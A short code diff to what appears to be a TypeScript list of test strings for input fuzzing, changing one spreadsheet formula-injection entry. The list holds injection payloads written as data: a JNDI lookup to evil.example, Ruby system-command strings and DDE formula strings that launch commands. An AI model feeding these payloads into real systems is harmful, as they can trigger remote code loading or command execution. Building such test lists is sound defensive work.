@@ -114,7 +114,7 @@ const BY_KIND: Readonly<Record<string, readonly string[]>> = {
     '${jndi:ldap://evil.example/a}',
     "System('ls -al /')",
     'Kernel.exit(1)',
-    '=1+1+cmd|calc!A0',
+    '=1+1+cmd|calc!b',
     '@SUM(1)*cmd',
   ],
   'words that programs keep for themselves': [
